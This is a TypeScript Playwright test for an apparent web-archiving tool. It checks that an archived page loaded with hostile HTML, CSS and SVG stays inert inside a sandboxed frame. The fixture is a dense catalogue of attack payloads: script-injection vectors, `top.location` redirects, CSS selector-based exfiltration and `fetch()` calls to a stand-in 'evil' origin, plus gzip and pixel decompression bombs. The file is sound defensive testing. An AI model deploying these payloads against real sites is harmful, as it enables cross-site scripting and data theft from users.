import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { type ReplaySite, startReplaySite } from '../server/testing/replay-site.ts'
import { expect, type TeamMember, test } from './journey.ts'
import { waitUntilSettled } from './settled.ts'

type CallApi = <T>(who: TeamMember, method: 'GET' | 'POST' | 'PUT', path: string, body?: unknown) => Promise<T>
type List<T> = { items: T[] }

let site: ReplaySite
let evil: ReplaySite
test.beforeAll(async () => {
  site = await startReplaySite()
  evil = await startReplaySite('127.0.0.2')
})
test.afterAll(async () => {
  await site.close()
  await evil.close()
})

const text = '<p>The harbour office is closed on Sundays and on all holidays of the town.</p>'

/** Every way in which a page, its stylesheets and its pictures could load, run, send or navigate. */
function hostile(at: string): string {
  return `<!doctype html><html lang="en" class='"><script>alert(0)</script>'><head><title>Styled</title><base href="${site.origin}/">
    <meta http-equiv="refresh" content="0;url=${at}/refresh"><link rel="stylesheet" href="/main.css"><link rel="stylesheet" href="/many.css">
    <link rel="stylesheet" href="/bomb.css"><link rel="stylesheet" href="${at}/far.css"><link rel="stylesheet" href="/loop.css">
    <link rel="preload" as="image" href="${at}/preload"><link rel="dns-prefetch" href="//evil.example"><link rel="modulepreload" href="${at}/m.js">
    <style>@import url(${at}/import.css); @import "${at}/import2.css" screen; @namespace url(${at}/ns);
    p { background: url( "${at}/gone-a" ); width: expression(alert(1)); behavior: url(${at}/gone-b); -moz-binding: url(${at}/gone-c#x) }
    a { background: url(javascript:alert(2)) } b { background: url("data:text/html,<script>alert(3)</script>") }
    i { background: \\75rl(${at}/gone-d) } u { background-image: image-set("${at}/gone-e" 1x) } s { --x: url(${at}/gone-f); background: var(--x) }
    q::before { content: "</style><img src=${at}/gone-g>" } @font-face { font-family: x; src: url(${at}/gone-h), local(x) }
    @media screen { @import "${at}/gone-i"; } input[value^=s] { background: url(${at}/gone-j) } em { cursor: url(${at}/gone-k), auto }
    strong { filter: url(${at}/gone-l#f); mask: url(${at}/gone-m#m); clip-path: url(${at}/gone-n#c) }</style>
    <script>top.location = '${at}/top'</script></head>
    <body onload="top.location='${at}/load'" background="${at}/gone-bg" style="background-image:url(${at}/gone-o)"><main class="card">${text}
    <img class="kept" src="/logo.png" alt="Logo"><img src="/drawing.svg" alt="Drawing"><img src="/wide.png" alt="Wide">
    <img src="data:text/html,<script>alert(4)</script>" srcset="${at}/gone-set 2x" onerror="alert(5)" loading="lazy">
    <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(6)'><image href='${at}/in-svg'/><script>fetch('${at}/x')</script></svg>">
    <picture><source srcset="${at}/gone-src" media="screen"><img src="${at}/gone-pic"></picture>
    <iframe srcdoc="<iframe srcdoc='<script>top.location=1</script><img src=${at}/nested>'></iframe>"></iframe>
    <svg><use href="${at}/use#a"/><image href="${at}/image"/><style>@import url(${at}/svg.css)</style></svg>
    <video autoplay poster="${at}/poster" src="${at}/video"></video><object data="${at}/object"></object><embed src="${at}/embed">
    <form action="${at}/form" target="_top"><input name="q" value="secret" autofocus><input type="image" src="${at}/gone-button"><button formaction="${at}/f">Send</button></form>
    <a href="${at}/link" target="_top" ping="${at}/ping">Read on</a> <a href="javascript:top.location='${at}/js'">Or this</a></main></body></html>`
}

test('a page with its styles and pictures requests nothing, whatever they contain', async ({
  context,
  url,
  admin,
  enter,
  callApi,
}) => {
  test.setTimeout(180_000)
  // Not the fixture's page: the sandbox reports the test's own scripts in the frame as blocked.
  const page = await context.newPage()
  const get = callApi as CallApi
  const at = evil.origin
  const css = (html: string | Buffer, headers = {}) => ({ html, type: 'text/css', headers })
  const png = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#c00' } })
    .png()
    .toBuffer()
  const wide = Buffer.from(png)
  wide.writeUInt32BE(100_000, 16)
  site.set('/', hostile(at))
  site.set(
    '/main.css',
    css(
      `@import "loop.css"; .card { color: rgb(1, 2, 3); background: url(logo.png) } .card::after { content: url(${at}/gone-p) }`,
    ),
  )
  site.set('/many.css', css(`.x{background:url(${at}/q)}`.repeat(100_000)))
  site.set('/bomb.css', css(gzipSync(Buffer.alloc(100_000_000, 32)), { 'content-encoding': 'gzip' }))
  site.set('/loop.css', css('@import "main.css"; @import "loop.css"; .kept { border: 3px solid rgb(4, 5, 6) }'))
  site.set('/logo.png', { html: png, type: 'image/png' })
  site.set('/wide.png', { html: wide, type: 'image/png' })
  site.set('/drawing.svg', {
    html: `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30" onload="alert(7)"><script>fetch('${at}/svg')</script>
      <style>@import url(${at}/svg.css); rect { fill: url(${at}/fill#x) }</style><image href="${at}/raster"/><rect width="60" height="30"/></svg>`,
    type: 'image/svg+xml',
  })
  evil.set('/far.css', css(`.far { background: url(gone-r) } @import url(${at}/late.css);`))
  const { id: og } = await get<{ id: number }>(admin, 'POST', '/v1/og', {
    name: `Styled ${Date.now().toString(36)}`,
    entrances: [`${site.origin}/`],
  })
  await get(admin, 'PUT', `/v1/og/${og}/site`, { delay_ms: 0, asset_mb: 50 })
  await get(admin, 'POST', `/v1/og/${og}/round`)
  const pages = async () => (await get<List<{ id: number }>>(admin, 'GET', `/v1/page?og_id=${og}`)).items
  await expect.poll(async () => (await pages()).length, { timeout: 60_000, intervals: [300] }).toBe(1)
  const id = (await pages())[0]?.id
  const { items: versions } = await get<List<{ id: number }>>(admin, 'GET', `/v1/page/${id}/version`)
  const look = () =>
    get<{ snapshot: { state: string; counts: object } }>(admin, 'GET', `/v1/page/${id}/version/${versions[0]?.id}/look`)
  await expect.poll(async () => (await look()).snapshot.state, { timeout: 60_000, intervals: [500] }).toBe('done')
  expect((await look()).snapshot.counts).toMatchObject({
    kept: { style: 4, picture: 2 },
    missed: { style: { file_large: 1 }, picture: { too_wide: 1 } },
  })
  site.requests.length = 0
  evil.requests.length = 0

  const dialogs: string[] = []
  const outside: string[] = []
  page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', request => {
    if (!request.url().startsWith(`${url}/`) && !/^(?:data|blob|about):/.test(request.url()))
      outside.push(request.url())
  })
  await enter(page, admin, `/admin/page/${id}?tab=archive`, 'en-US')
  const frame = page.frameLocator('iframe[sandbox=""]')
  await expect(frame.getByText('closed on Sundays')).toBeVisible()
  await expect(frame.locator('.card')).toHaveCSS('color', 'rgb(1, 2, 3)')
  await expect(frame.locator('.kept')).toHaveCSS('border-top-color', 'rgb(4, 5, 6)')
  for (const [alt, width] of [
    ['Logo', 40],
    ['Drawing', 60],
    ['Wide', 0],
  ] as const)
    await expect(frame.getByAltText(alt)).toHaveJSProperty('naturalWidth', width)
  await expect(page.getByText('1 picture left out: Too many pixels')).toBeVisible()
  for (const words of ['Read on', 'Or this', 'Send']) {
    const box = await frame.getByText(words).boundingBox()
    if (box) await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2)
  }
  await page.getByText('100 %').click()
  await waitUntilSettled(page)
  expect(await page.locator('iframe[sandbox=""]').evaluate(element => element.getBoundingClientRect().width)).toBe(1280)
  expect(new URL(page.url()).origin).toBe(url)
  expect(dialogs).toEqual([])
  expect(outside).toEqual([])
  expect(site.requests).toEqual([])
  expect(evil.requests).toEqual([])
})
